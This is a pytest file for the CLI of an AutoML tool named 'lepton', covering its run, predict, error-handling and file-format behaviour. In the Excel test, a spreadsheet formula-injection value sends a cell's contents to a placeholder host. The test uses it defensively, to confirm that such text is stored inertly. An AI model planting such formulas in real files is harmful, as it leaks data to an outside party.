"""The ``lepton`` command."""

from __future__ import annotations

import io
import re
import sys

import pytest

from lepton.cli import build_parser, main


@pytest.mark.slow
def test_lepton_run_digits_reports_a_good_held_out_accuracy(capsys):
    # 30 s: creating a fresh MLflow store (schema migrations) alone takes ~8 s of it
    assert main(["run", "digits", "--time-budget", "30", "--register", "cli-digits"]) == 0
    out = capsys.readouterr().out
    assert "dataset=digits task=classification rows=1797" in out
    accuracy = float(re.search(r"held-out accuracy: ([0-9.]+)", out).group(1))
    assert accuracy > 0.9
    assert "searched" in out and "tracked in MLflow experiment 'lepton-digits'" in out
    assert "registered as 'cli-digits' version 1: first champion" in out
    assert "space=cnn, on cpu)" in out  # digits declares its 8x8 shape: the search sees images
    # one summary line: the estimator's own ('[LeptonClassifier] N trials, ...') said it too
    assert "[LeptonClassifier]" not in out
    assert re.search(r"final model: (refit|ensemble of trials [\d, ]+ \(validation "
                     r"accuracy=[\d.]+\))", out), out


@pytest.mark.slow
def test_lepton_run_register_decides_the_champion_on_the_held_out_rows(capsys, tmp_path,
                                                                        monkeypatch):
    """The second run's model replaces the champion or not by the two models' scores on
    the held-out rows neither was fitted on: the split is the same, so 37 of iris's 38
    (one held-out row is also a training row: iris lists a flower twice)."""
    import mlflow

    (tmp_path / "cwd").mkdir()
    monkeypatch.chdir(tmp_path / "cwd")
    store = f"sqlite:///{tmp_path / 'mlflow.db'}"
    args = ["run", "iris", "--time-budget", "15", "--register", "cli-iris",
            "--tracking-uri", store, "--verbose", "0"]
    assert main(args) == 0
    assert "registered as 'cli-iris' version 1: first champion" in capsys.readouterr().out
    assert main(args) == 0
    out = capsys.readouterr().out
    decided = re.search(r"registered as 'cli-iris' version 2: ((not )?promoted: held-out "
                        r"accuracy=[0-9.]+ vs champion v1 [0-9.]+, on the 37 held-out rows "
                        r"neither was fitted on)\n", out)
    assert decided, out
    version = mlflow.MlflowClient(store).get_model_version("cli-iris", "2")
    assert version.tags["lepton.promotion"] == decided.group(1)
    # named by its content: logged before the version exists, which is born tagged with it
    assert re.fullmatch(r"lepton/training_rows_[0-9a-f]{16}\.npy",
                        version.tags["lepton.training_rows"])
    # the champion's model resolved through the run's store, not MLflow's default one
    assert not list((tmp_path / "cwd").iterdir())


def test_lepton_run_fixed_network(capsys):
    assert main(["run", "iris", "--fixed"]) == 0
    said = capsys.readouterr()
    assert re.search(r"trained \d+ epochs", said.out) and "held-out accuracy" in said.out
    # the epoch lines are progress, on stderr as a search's is (review helper-77)
    assert "train_loss" not in said.out and "epoch    1  train_loss" in said.err


def test_lepton_interrupted_exits_130_without_a_traceback(monkeypatch, capsys):
    """A search interrupted after some trials reports as usual (tests/search/
    test_interrupt.py); interrupted before, or in a fixed fit, the command says so."""
    from lepton import NeuralNetworkClassifier

    def interrupted(self, X, y, sample_weight=None):
        raise KeyboardInterrupt

    monkeypatch.setattr(NeuralNetworkClassifier, "fit", interrupted)
    assert main(["run", "iris", "--fixed"]) == 130
    assert capsys.readouterr().err == "lepton: interrupted (Ctrl-C)\n"


def test_lepton_terminated_exits_143_without_a_traceback(monkeypatch, capsys):
    """SIGTERM ends a search with lepton.search.Terminated once the study is consistent
    (the real signal: tests/search/test_interrupt.py); the command says so and exits
    with the shell's status for a process SIGTERM ended."""
    from lepton import NeuralNetworkClassifier
    from lepton.search import Terminated

    def terminated(self, X, y, sample_weight=None):
        raise Terminated("LeptonClassifier: SIGTERM stopped the search after 2 finished trials")

    monkeypatch.setattr(NeuralNetworkClassifier, "fit", terminated)
    assert main(["run", "iris", "--fixed"]) == 143
    assert capsys.readouterr().err == "lepton: terminated (SIGTERM)\n"


def test_lepton_prints_warnings_as_one_line(monkeypatch, capsys):
    """Not Python's 'file.py:51: UserWarning: ...' with the source line echoed."""
    import warnings

    from lepton import NeuralNetworkClassifier

    real_fit = NeuralNetworkClassifier.fit

    def fit(self, X, y, sample_weight=None):
        warnings.warn("search interrupted (Ctrl-C) after 5 finished trials", UserWarning)
        warnings.warn("lbfgs failed to converge", RuntimeWarning)
        return real_fit(self, X, y, sample_weight)

    monkeypatch.setattr(NeuralNetworkClassifier, "fit", fit)
    shown = warnings.showwarning
    assert main(["run", "iris", "--fixed"]) == 0
    err = capsys.readouterr().err
    assert "lepton: warning: search interrupted (Ctrl-C) after 5 finished trials\n" in err
    assert "lepton: warning: RuntimeWarning: lbfgs failed to converge\n" in err
    assert "UserWarning" not in err and "cli.py" not in err
    assert warnings.showwarning is shown  # restored for whatever runs after main


def test_lepton_run_with_an_unknown_dataset_is_a_usage_error(capsys):
    assert main(["run", "no-such-dataset"]) == 2
    err = capsys.readouterr().err
    assert "lepton: error: dataset='no-such-dataset' is neither a built-in dataset" in err
    assert "digits" in err


def test_lepton_run_with_a_device_that_is_not_here_is_a_usage_error(capsys, monkeypatch):
    import lepton.steps

    def never(*args, **kwargs):
        raise AssertionError("the data loaded (or a worker waited) before the device check")

    monkeypatch.setattr(lepton.steps, "load_split", never)
    assert main(["run", "wine", "--device", "cpu,cpu"]) == 2
    assert "lepton: error: device='cpu,cpu' names 'cpu' twice" in capsys.readouterr().err
    assert main(["run", "wine", "--device", "tpu"]) == 2
    assert "device='tpu' is not a device; use 'auto', 'cpu', 'cuda'" in capsys.readouterr().err
    monkeypatch.setattr(lepton.steps, "join_search", never)  # a worker: before it waits
    assert main(["worker", "--storage", "study.db", "--device", "cpu,cpu"]) == 2
    assert "device='cpu,cpu' names 'cpu' twice" in capsys.readouterr().err


def test_lepton_run_csv_with_a_target_column(tmp_path, capsys):
    import numpy as np
    import pandas as pd

    rng = np.random.default_rng(0)
    frame = pd.DataFrame({"a": rng.normal(size=200), "b": rng.choice(["x", "y"], 200)})
    frame["label"] = np.where((frame.a > 0) ^ (frame.b == "x"), "pos", "neg")
    path = tmp_path / "table.csv"
    frame.to_csv(path, index=False)
    # an order number and a date: the run says what it makes of them
    extra = frame.assign(order=[f"A-{i:04d}" for i in range(200)],
                         day=pd.date_range("2024-03-01", periods=200).strftime("%d.%m.%Y"))
    extra.to_csv(tmp_path / "orders.csv", index=False)
    assert main(["run", str(tmp_path / "orders.csv"), "--target", "label", "--time-budget", "8",
                 "--no-tracking", "--time-column", "day"]) == 0
    out = capsys.readouterr().out
    # --time-column: the latest quarter of the days is held out, the search validates forward
    assert ("held out the latest 50 rows by 'day' (from 29.07.2024); the search validates on "
            "TimeSeriesSplit(5), forward in time\n") in out
    assert ("column 'day': dates ('%d.%m.%Y'), learnt from as days since 1970 and the "
            "position in the year, week and day\ncolumn 'order' left out: an identifier: 150 "
            "distinct values in 150 rows\n") in out
    assert main(["run", str(path), "--target", "label", "--time-budget", "8",
                 "--no-tracking"]) == 0
    out = capsys.readouterr().out
    assert "dataset=table task=classification rows=200" in out
    assert "column " not in out
    assert re.search(r"held-out accuracy: [0-9.]+", out)
    # what the run's wall time holds besides the budget, said at the end
    done = re.search(r"done in ([0-9.]+)s: the search ([0-9.]+)s of its 8s budget, reading the "
                     r"data, held-out scores, saving and tracking ([0-9.]+)s\n$", out)
    assert done
    assert float(done[1]) == pytest.approx(float(done[2]) + float(done[3]), abs=0.11)
    assert main(["run", str(path), "--target", "nope"]) == 2
    assert "target='nope' is not a column of table.csv" in capsys.readouterr().err
    # a header written 'a, b, label': the column is ' label'; the error says so
    frame.rename(columns={"label": " label"}).to_csv(tmp_path / "spaced.csv", index=False)
    assert main(["run", str(tmp_path / "spaced.csv"), "--target", "label"]) == 2
    assert ("columns are ['a', 'b', ' label'] (' label': spaces around the name, as the file "
            "writes it)") in capsys.readouterr().err
    assert main(["run", str(path)]) == 2
    assert ("a file needs its target column named (--target / target=); the columns of "
            "table.csv are ['a', 'b', 'label']") in capsys.readouterr().err


def test_lepton_run_task_override_and_a_class_of_one_row(tmp_path, capsys):
    """A whole-number target with few values (a 0-10 rating) reads as classes; --task
    regression says otherwise. A class of a single row cannot be stratified: the held-out
    split is then a plain one, and the run says so instead of failing in scikit-learn."""
    import numpy as np
    import pandas as pd

    rng = np.random.default_rng(0)
    frame = pd.DataFrame({"a": rng.normal(size=200), "b": rng.normal(size=200)})
    frame["rating"] = np.clip(np.round(3 * frame.a + 5), 0, 10).astype(int)
    frame["label"] = np.where(frame.a > 0, "pos", "neg")
    frame.loc[0, "label"] = "rare"
    path = tmp_path / "ratings.csv"
    frame.to_csv(path, index=False)
    common = ["--time-budget", "6", "--no-tracking", "--verbose", "0"]
    assert main(["run", str(path), "--target", "rating", *common]) == 0
    assert "task=classification" in capsys.readouterr().out
    assert main(["run", str(path), "--target", "rating", "--task", "regression", *common]) == 0
    out = capsys.readouterr().out
    assert "task=regression" in out and re.search(r"held-out r2: 0\.\d+", out)
    assert main(["run", str(path), "--target", "label", *common]) == 0
    captured = capsys.readouterr()
    assert "1 class(es) with a single row ('rare')" in captured.err
    assert re.search(r"held-out accuracy: [0-9.]+", captured.out)
    assert main(["run", str(path), "--target", "label", "--task", "regression", *common]) == 2
    assert ("lepton: error: LeptonRegressor is a regressor but y holds non-numeric values"
            ) in capsys.readouterr().err


def test_lepton_run_unreadable_files_and_storages_are_usage_errors(tmp_path, capsys):
    from lepton.tracking.ui import free_port

    (tmp_path / "empty.csv").write_text("")
    assert main(["run", str(tmp_path / "empty.csv"), "--target", "y"]) == 2
    assert (f"lepton: error: dataset file '{tmp_path / 'empty.csv'}' cannot be read as CSV: "
            "EmptyDataError") in capsys.readouterr().err
    (tmp_path / "broken.parquet").write_bytes(b"PAR1 not parquet")
    assert main(["run", str(tmp_path / "broken.parquet"), "--target", "y"]) == 2
    assert "broken.parquet' cannot be read as PARQUET" in capsys.readouterr().err
    port = free_port()  # nothing listens there
    assert main(["run", "iris", "--time-budget", "5", "--no-tracking",
                 "--storage", f"postgresql://127.0.0.1:{port}/study"]) == 2
    assert (f"lepton: error: storage='postgresql://127.0.0.1:{port}/study' cannot be opened"
            in capsys.readouterr().err)


def test_lepton_version(capsys):
    import lepton

    with pytest.raises(SystemExit) as done:
        main(["--version"])
    assert done.value.code == 0
    assert capsys.readouterr().out.strip() == f"lepton {lepton.__version__}"


def test_no_tracking_means_none_whatever_mlflow_tracking_uri_says(monkeypatch, capsys):
    """With a team's MLFLOW_TRACKING_URI exported, --no-tracking still tracked (and, the
    server down, failed with 'unreachable', exit 2)."""
    from lepton.tracking.ui import free_port

    monkeypatch.setenv("MLFLOW_TRACKING_URI", f"http://127.0.0.1:{free_port()}")
    assert main(["run", "iris", "--time-budget", "4", "--no-tracking", "--verbose", "0"]) == 0
    assert "tracked in MLflow" not in capsys.readouterr().out


def test_lepton_run_gives_image_datasets_as_images_unless_flat():
    from lepton.cli import build_parser

    parser = build_parser()
    assert parser.parse_args(["run", "digits"]).images is True
    assert parser.parse_args(["run", "digits", "--images"]).images is True
    assert parser.parse_args(["run", "digits", "--flat"]).images is False
    with pytest.raises(SystemExit):  # one or the other
        parser.parse_args(["run", "digits", "--flat", "--images"])


def _table(tmp_path, n=200):
    import numpy as np
    import pandas as pd

    rng = np.random.default_rng(0)
    frame = pd.DataFrame({"a": rng.normal(size=n), "b": rng.choice(["x", "y"], n)})
    frame["label"] = np.where((frame.a > 0.5) ^ (frame.b == "x"), "pos", "neg")
    path = tmp_path / "table.csv"
    frame.to_csv(path, index=False)
    return frame, path


def test_lepton_run_with_a_metric_a_space_and_a_saved_model(tmp_path, capsys):
    import joblib

    frame, path = _table(tmp_path)
    saved = tmp_path / "model.joblib"
    assert main(["run", str(path), "--target", "label", "--time-budget", "8", "--no-tracking",
                 "--metric", "roc_auc", "--search-space", "resnet", "--save", str(saved)]) == 0
    out = capsys.readouterr().out
    assert "space=resnet" in out and "best validation roc_auc=" in out
    auc = float(re.search(r"held-out roc_auc: ([0-9.]+)", out).group(1))
    assert 0.5 < auc <= 1.0
    assert re.search(r"held-out accuracy: [0-9.]+", out)  # the plain score stays
    model = joblib.load(saved)
    assert model.final_model_info_["metric"] == "roc_auc"
    assert set(model.predict(frame[["a", "b"]])) <= {"pos", "neg"}


def test_lepton_run_rejects_a_metric_of_the_other_task_and_an_unwritable_save(tmp_path, capsys):
    _, path = _table(tmp_path)
    assert main(["run", str(path), "--target", "label", "--time-budget", "8", "--no-tracking",
                 "--metric", "rmse"]) == 2
    err = capsys.readouterr().err
    assert "metric='rmse' is not a classification metric" in err and "roc_auc" in err
    missing = tmp_path / "no-such-folder" / "model.joblib"
    assert main(["run", str(path), "--target", "label", "--time-budget", "8", "--no-tracking",
                 "--save", str(missing)]) == 2
    err = capsys.readouterr().err
    assert "--save" in err and "does not exist" in err
    assert not missing.parent.exists()
    # a folder: refused before the search (it failed after it, the model lost)
    for extra in (["--time-budget", "8"], ["--fixed"]):
        assert main(["run", str(path), "--target", "label", "--no-tracking", "--save",
                     str(tmp_path), *extra]) == 2
        out, err = capsys.readouterr()
        assert f"--save {str(tmp_path)!r} is a folder; give a file path in it" in err
        assert "held-out" not in out


def test_fixed_refuses_the_options_only_a_search_uses(capsys):
    """--fixed trains one default network, untracked: a metric, a storage or a registered
    name given with it were silently ignored (nothing registered, no study)."""
    assert main(["run", "iris", "--fixed", "--metric", "roc_auc", "--storage", "s.db",
                 "--register", "iris-model", "--time-budget", "1"]) == 2
    out, err = capsys.readouterr()
    assert ("--fixed trains one network with its default settings, untracked: --time-budget, "
            "--metric, --storage, --register apply to a search only" in err)
    assert "dataset=" not in out  # before the data loads


@pytest.mark.parametrize("storage", ["study.txt", "postgresq://postgres@127.0.0.1/db"])
def test_run_refuses_a_storage_of_no_storages_form_before_the_data_loads(tmp_path, capsys,
                                                                          storage):
    """`lepton run --storage study.txt` loaded the data and printed how to add workers
    (`lepton worker --storage study.txt`) before the fit refused the storage."""
    _, path = _table(tmp_path)
    assert main(["run", str(path), "--target", "label", "--storage", storage,
                 "--time-budget", "5", "--no-tracking"]) == 2
    out, err = capsys.readouterr()
    assert f"storage={storage!r} is not a recognised storage" in err
    assert "lepton worker" not in out and "dataset=" not in out  # before the data loads
    assert list(tmp_path.iterdir()) == [path]


@pytest.mark.parametrize("option, said", [
    (["--metric", "bogus"], "metric='bogus' is not a metric; choose one of accuracy"),
    (["--search-space", "nope.yaml"], "nope.yaml"),
])
def test_run_options_are_refused_before_the_data_loads(tmp_path, capsys, option, said):
    """A bad option is said before a (large) file is read: here a file that is not there
    would be the error if the data loaded first."""
    assert main(["run", str(tmp_path / "big.csv"), "--target", "y", *option]) == 2
    err = capsys.readouterr().err
    assert said in err and "big.csv" not in err


@pytest.mark.parametrize("argv, said", [
    (["worker", "--time-budget", "-3"], "'-3' is not a number of seconds > 0"),
    (["worker", "--wait", "-5"], "'-5' is not a number of seconds >= 0"),
    (["ui", "--port", "99999"], "'99999' is not a port (1-65535)"),
    (["run", "--n-jobs", "0"], "'0' is not a whole number >= 1, nor a negative one counted "
                               "from the cores (-1: one trial per core, -2: all cores but one)"),
    (["worker", "--n-jobs", "1.5"], "'1.5' is not a whole number >= 1, nor a negative one"),
    # review helper-62: refused after the data loaded, in train_test_split's words or the
    # estimator's; an empty experiment took the default one
    (["run", "--seed", "-1"], "argument --seed: '-1' is not a whole number from 0 to "
                              "4294967295"),
    (["run", "--seed", "99999999999"], "'99999999999' is not a whole number from 0 to"),
    (["run", "--verbose", "-1"], "argument --verbose: invalid choice: -1 (choose from 0, 1, 2)"),
    (["worker", "--verbose", "3"], "argument --verbose: invalid choice: 3"),
    (["run", "--experiment", ""], "argument --experiment: '' is empty: give a name, or leave "
                                  "the option out for the default"),
    (["run", "--study-name", " "], "argument --study-name: ' ' is empty"),
    (["run", "--register", ""], "argument --register: '' is empty"),
    (["worker", "--tracking-uri", ""], "argument --tracking-uri: '' is empty"),
    (["ui", "--tracking-uri", ""], "argument --tracking-uri: '' is empty"),
    (["prune", "--keep", "-1"], "argument --keep: '-1' is not a whole number >= 0"),
    (["prune", "--older-than", "90"], "argument --older-than: '90' is not an age: a number "
                                      "above 0 and a unit, d (days), h (hours) or m"),
])
def test_worker_and_ui_numbers_are_usage_errors(tmp_path, capsys, argv, said):
    if argv[0] == "run":
        argv = [argv[0], "iris", *argv[1:]]
    if argv[0] == "worker":
        argv = [*argv, "--storage", str(tmp_path / "s.db")]
    with pytest.raises(SystemExit) as exc_info:
        main(argv)
    assert exc_info.value.code == 2 and said in capsys.readouterr().err
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("command", ["run", "worker"])
def test_n_jobs_minus_one_means_one_trial_per_core(command):
    """`lepton run --n-jobs -1` took one trial per core while `lepton worker --n-jobs -1`
    was refused: both take it now, as the estimators do."""
    argv = [command, "--n-jobs", "-1"] + (["--storage", "s.db"] if command == "worker" else [])
    assert build_parser().parse_args(argv).n_jobs == -1


@pytest.mark.parametrize("command", ["run", "worker"])
def test_n_jobs_minus_two_means_all_cores_but_one(command, tmp_path, monkeypatch):
    """`--n-jobs -2` was refused ('nor -1'): joblib's and scikit-learn's users read it as
    all cores but one, as the estimators now take it (tests/search)."""
    from lepton.search import estimators

    argv = [command, "--n-jobs", "-2"] + (["--storage", "s.db"] if command == "worker" else [])
    n_jobs = build_parser().parse_args(argv).n_jobs
    assert n_jobs == -2
    monkeypatch.setattr(estimators, "cpu_count", lambda: 8)
    assert estimators.LeptonClassifier(n_jobs=n_jobs)._n_jobs() == 7


def test_target_before_the_file_is_not_read_as_the_builtin_dataset(tmp_path, capsys):
    """`--target` takes several columns, so `lepton run --target label data.csv` gives it
    the file too and leaves the dataset at its default, digits: refused, naming the fix
    (it searched digits without a word)."""
    _, path = _table(tmp_path)
    assert main(["run", "--target", "label", str(path), "--time-budget", "8",
                 "--no-tracking"]) == 2
    out, err = capsys.readouterr()
    assert ("target=['label', " in err and "the dataset is the built-in 'digits'" in err
            and "name it first: lepton run data.csv --target COLUMN" in err)
    assert "dataset=digits" not in out


def test_lepton_predict_scores_a_file_with_a_saved_model(tmp_path, capsys):
    import joblib
    import numpy as np
    import pandas as pd

    frame, path = _table(tmp_path)
    saved = tmp_path / "model.joblib"
    assert main(["run", str(path), "--target", "label", "--time-budget", "6", "--no-tracking",
                 "--verbose", "0", "--save", str(saved)]) == 0
    model = joblib.load(saved)
    # new rows: shuffled columns, an id, no target; the model picks its own columns
    new = frame.drop(columns="label").iloc[:25][["b", "a"]].assign(id=np.arange(25) + 1000)
    new.to_csv(tmp_path / "new.csv", index=False)
    out = tmp_path / "pred.csv"
    capsys.readouterr()
    assert main(["predict", str(saved), str(tmp_path / "new.csv"), "--out", str(out),
                 "--proba", "--keep", "id"]) == 0
    assert "wrote 25 predictions" in capsys.readouterr().err
    pred = pd.read_csv(out)
    assert list(pred.columns) == ["id", "prediction", "proba_neg", "proba_pos"]
    assert pred["id"].tolist() == list(range(1000, 1025))
    assert pred["prediction"].tolist() == list(model.predict(frame[["a", "b"]].iloc[:25]))
    np.testing.assert_allclose(pred[["proba_neg", "proba_pos"]].sum(axis=1), 1.0, atol=1e-6)
    # to standard output, as CSV
    assert main(["predict", str(saved), str(tmp_path / "new.csv")]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert lines[0] == "prediction" and len(lines) == 26


def test_lepton_predict_keep_gives_the_kept_columns_back_as_written(tmp_path, capsys):
    """An identifier 00123 came back 123 (a join back to the database failed), 1.50 came
    back 1.5 and a decimal comma's 0,640 came back 0,64: the same numbers, not the file's
    text. Kept columns are the file's text now."""
    import pandas as pd

    _, path = _table(tmp_path)
    saved = tmp_path / "model.joblib"
    assert main(["run", str(path), "--target", "label", "--fixed", "--save", str(saved)]) == 0
    (tmp_path / "new.csv").write_text(
        "id,a,b,price\n00123,0.7,x,1.50\n00456,-1.2,y,0.640\n,0.1,x,3.00\n")
    out = tmp_path / "pred.csv"
    capsys.readouterr()
    assert main(["predict", str(saved), str(tmp_path / "new.csv"), "--out", str(out),
                 "--keep", "id", "price"]) == 0
    lines = out.read_text().splitlines()
    assert lines[0] == "id,price,prediction"
    assert [line.rsplit(",", 1)[0] for line in lines[1:]] == ["00123,1.50", "00456,0.640",
                                                              ",3.00"]
    # a typed output keeps typed values (the text is for text files)
    parquet = tmp_path / "pred.parquet"
    assert main(["predict", str(saved), str(tmp_path / "new.csv"), "--out", str(parquet),
                 "--keep", "id", "price"]) == 0
    kept = pd.read_parquet(parquet)
    assert kept["price"].dtype == "float64" and kept["price"].tolist() == [1.5, 0.64, 3.0]
    # but an identifier written with leading zeros stays text (it came back the number 123)
    assert kept["id"].fillna("").tolist() == ["00123", "00456", ""]
    # a spreadsheet's semicolons and decimal commas, to standard output
    (tmp_path / "semi.csv").write_text("id;a;b\n007;0,640;x\n008;-1,5;y\n")
    assert main(["predict", str(saved), str(tmp_path / "semi.csv"), "--keep", "id", "a"]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert [line.rsplit(";", 1)[0] for line in lines] == ["id;a", "007;0,640", "008;-1,5"]


def test_lepton_predict_keeps_an_excel_workbooks_text_cells_as_text(tmp_path, capsys):
    """A workbook's identifier typed as text ('00001') came back the number 1, into a CSV
    and into a workbook: pandas makes numbers of text cells that hold digits."""
    import openpyxl

    frame, _ = _table(tmp_path, n=40)
    saved = tmp_path / "model.joblib"
    assert main(["run", str(tmp_path / "table.csv"), "--target", "label", "--fixed", "--save",
                 str(saved)]) == 0
    new = frame.drop(columns="label").assign(id=[f"{i:05d}" for i in range(40)], n=7)
    new["id"] = new["id"].astype(object)
    new.loc[1, "id"] = 12345  # a number cell among the text ones: all text
    new.to_excel(tmp_path / "new.xlsx", index=False)
    assert main(["predict", str(saved), str(tmp_path / "new.xlsx"), "--keep", "id", "n",
                 "--out", str(tmp_path / "pred.csv")]) == 0
    assert [line.split(",")[:2] for line in
            (tmp_path / "pred.csv").read_text().splitlines()[:3]] == [
        ["id", "n"], ["00000", "7"], ["12345", "7"]]
    assert main(["predict", str(saved), str(tmp_path / "new.xlsx"), "--keep", "id", "n",
                 "--out", str(tmp_path / "pred.xlsx")]) == 0
    sheet = openpyxl.load_workbook(tmp_path / "pred.xlsx").active
    assert [(c.value, c.data_type) for c in sheet[2]][:2] == [("00000", "s"), (7, "n")]
    # text that begins with '=' is text in the workbook written, not a formula: a kept
    # '=HYPERLINK(...)' became a live link there (security review helper-75)
    new.loc[2, "id"] = '=HYPERLINK("http://example.invalid/?x="&B2,"open")'
    new.loc[3, "id"] = "=1+1"
    new.to_csv(tmp_path / "sent.csv", index=False)
    assert main(["predict", str(saved), str(tmp_path / "sent.csv"), "--keep", "id",
                 "--out", str(tmp_path / "sent.xlsx")]) == 0
    sheet = openpyxl.load_workbook(tmp_path / "sent.xlsx").active
    assert [(c.value, c.data_type) for c in sheet["A"]][3:5] == [
        ('=HYPERLINK("http://example.invalid/?x="&B2,"open")', "s"), ("=1+1", "s")]


def test_a_decimal_comma_file_into_a_tsv_writes_one_decimal_sign(tmp_path, capsys):
    """Kept columns of a ';' and decimal-comma file came into a TSV as written ('0,640')
    beside probabilities with a point: a TSV is read with points (read_table, pandas, R),
    so its kept numbers get the point too, their digits as written."""
    from lepton.datasets import read_table

    _, path = _table(tmp_path, n=40)
    saved = tmp_path / "model.joblib"
    assert main(["run", str(path), "--target", "label", "--fixed", "--save", str(saved)]) == 0
    (tmp_path / "semi.csv").write_text(
        "id;a;b;amount\n007;0,640;x;1.234,50\n008;-1,5;y;12,00\n009;;x;\n")
    out = tmp_path / "pred.tsv"
    assert main(["predict", str(saved), str(tmp_path / "semi.csv"), "--keep", "id", "a",
                 "amount", "--proba", "--out", str(out)]) == 0
    rows = [line.split("\t") for line in out.read_text().splitlines()]
    assert rows[0] == ["id", "a", "amount", "prediction", "proba_neg", "proba_pos"]
    assert [row[:3] for row in rows[1:]] == [["007", "0.640", "1234.50"],
                                              ["008", "-1.5", "12.00"], ["009", "", ""]]
    assert "," not in out.read_text()
    back = read_table(out)
    assert back["a"].dtype == "float64" and back["proba_pos"].dtype == "float64"


def test_lepton_predict_does_not_need_the_columns_the_model_left_out(tmp_path, capsys):
    """Trained on a file written with its index (left out: 'Unnamed: 0'), the model
    predicts a file written without it; a column it uses is still required."""
    frame, path = _table(tmp_path)
    frame.to_csv(path)  # with the index
    saved = tmp_path / "model.joblib"
    assert main(["run", str(path), "--target", "label", "--fixed", "--save", str(saved)]) == 0
    assert "column 'Unnamed: 0' left out: a row number" in capsys.readouterr().out
    frame.drop(columns="label").to_csv(tmp_path / "new.csv", index=False)
    assert main(["predict", str(saved), str(tmp_path / "new.csv")]) == 0
    assert len(capsys.readouterr().out.splitlines()) == 201
    frame[["a"]].to_csv(tmp_path / "new.csv", index=False)
    assert main(["predict", str(saved), str(tmp_path / "new.csv")]) == 2
    assert "lacks the column(s) ['b'] the model was trained on; it needs ['a', 'b']" in \
        capsys.readouterr().err


def test_lepton_predict_bad_inputs_are_usage_errors(tmp_path, capsys):
    import joblib

    frame, path = _table(tmp_path)
    saved = tmp_path / "model.joblib"
    assert main(["run", str(path), "--target", "label", "--time-budget", "6", "--no-tracking",
                 "--verbose", "0", "--save", str(saved)]) == 0
    frame[["a"]].to_csv(tmp_path / "only_a.csv", index=False)
    capsys.readouterr()
    assert main(["predict", str(saved), str(tmp_path / "only_a.csv")]) == 2
    assert "lacks the column(s) ['b']" in capsys.readouterr().err
    assert main(["predict", str(saved), str(path), "--keep", "nope"]) == 2
    assert "--keep ['nope']: not columns of table.csv" in capsys.readouterr().err
    assert main(["predict", str(tmp_path / "none.joblib"), str(path)]) == 2
    assert "does not exist" in capsys.readouterr().err
    joblib.dump({"not": "a model"}, tmp_path / "dict.joblib")
    assert main(["predict", str(tmp_path / "dict.joblib"), str(path)]) == 2
    assert "holds a dict, not a fitted Lepton estimator" in capsys.readouterr().err
    assert main(["predict", str(saved), str(path), "--out", str(tmp_path / "p.json")]) == 2
    assert "must end in .csv, .tsv, .txt" in capsys.readouterr().err
    assert main(["predict", str(saved), str(path), "--out", str(tmp_path / "no" / "p.csv")]) == 2
    assert "--out" in capsys.readouterr().err and not (tmp_path / "no").exists()
    # a kept column named as one the predictions write would be overwritten
    frame.assign(prediction=1).to_csv(tmp_path / "with_prediction.csv", index=False)
    assert main(["predict", str(saved), str(tmp_path / "with_prediction.csv"), "--keep",
                 "prediction"]) == 2
    assert "--keep ['prediction']: the output's own column(s) have these names" in \
        capsys.readouterr().err


def test_lepton_predict_of_a_file_without_rows_writes_the_columns(tmp_path, capsys):
    """A nightly batch with no new rows gives a file of column names, not an error."""
    import pandas as pd

    frame, path = _table(tmp_path)
    saved = tmp_path / "model.joblib"
    assert main(["run", str(path), "--target", "label", "--fixed", "--save", str(saved)]) == 0
    frame.iloc[:0].to_csv(tmp_path / "empty.csv", index=False)
    out = tmp_path / "pred.csv"
    assert main(["predict", str(saved), str(tmp_path / "empty.csv"), "--out", str(out),
                 "--proba", "--keep", "a"]) == 0
    assert list(pd.read_csv(out).columns) == ["a", "prediction", "proba_neg", "proba_pos"]
    assert len(pd.read_csv(out)) == 0


def test_lepton_predict_into_a_closed_pipe_ends_quietly(tmp_path, monkeypatch, capfd):
    """`lepton predict model data.csv | head -1`: the reader closes the pipe; the command
    stops with the shell's SIGPIPE code and no traceback (it raised BrokenPipeError)."""
    import os

    frame, path = _table(tmp_path, n=2000)
    saved = tmp_path / "model.joblib"
    assert main(["run", str(path), "--target", "label", "--fixed", "--save", str(saved)]) == 0
    capfd.readouterr()
    read, write = os.pipe()
    os.close(read)  # the reader is gone
    monkeypatch.setattr(sys, "stdout", os.fdopen(write, "w"))
    assert main(["predict", str(saved), str(path)]) == 141
    assert "Traceback" not in capfd.readouterr().err


@pytest.mark.parametrize("name", ["pred.parquet", "pred.tsv", "pred.csv"])
def test_tables_written_by_suffix_read_back(tmp_path, name):
    import pandas as pd

    from lepton.datasets import read_table, write_table

    frame = pd.DataFrame({"id": [3, 1], "prediction": ["pos", "neg"], "proba_pos": [0.9, 0.2]})
    write_table(frame, tmp_path / name)
    pd.testing.assert_frame_equal(read_table(tmp_path / name), frame)
    with pytest.raises(ValueError, match=r"--out .*pred\.json.* must end in \.csv, \.tsv, "):
        from lepton.datasets import table_format
        table_format(tmp_path / "pred.json", what="--out")


#: the first bytes of each compression's files
MAGIC = {"gz": b"\x1f\x8b", "bz2": b"BZh", "xz": b"\xfd7zXZ", "zip": b"PK"}


@pytest.mark.parametrize("compression", sorted(MAGIC))
def test_compressed_tables_are_written_and_read_back(tmp_path, compression):
    import pandas as pd

    from lepton.datasets import read_table, write_table

    frame = pd.DataFrame({"id": [3, 1], "prediction": ["pos", "neg"], "proba_pos": [0.9, 0.2]})
    path = tmp_path / f"pred.csv.{compression}"
    write_table(frame, path)
    assert path.read_bytes().startswith(MAGIC[compression])  # compressed, not plain text
    pd.testing.assert_frame_equal(read_table(path), frame)


def test_a_compressed_excel_csv_is_sniffed_through_its_compression(tmp_path, capsys):
    """The separator, decimal sign and encoding are read off the decompressed first lines
    (before, a .csv.gz was refused by its suffix), and the dataset is named without its
    suffixes."""

    frame = _customers()
    path = tmp_path / "kunden.csv.gz"
    frame.to_csv(path, sep=";", decimal=",", index=False, encoding="cp1252")
    assert main(["run", str(path), "--target", "y", "--fixed"]) == 0
    out = capsys.readouterr().out
    assert "dataset=kunden task=regression" in out
    assert "read kunden.csv.gz as semicolon-separated, decimal commas, encoding cp1252" in out


def test_unreadable_compressed_tables_are_refused_with_the_reason(tmp_path):
    import zipfile

    from lepton.datasets import read_table

    two = tmp_path / "two.csv.zip"
    with zipfile.ZipFile(two, "w") as archive:
        archive.writestr("a.csv", "x,y\n1,2\n")
        archive.writestr("b.csv", "x,y\n3,4\n")
    with pytest.raises(ValueError, match=r"two\.csv\.zip.*a \.zip must hold one file; "
                                         r"two\.csv\.zip holds 2: \['a\.csv', 'b\.csv'\]"):
        read_table(two)
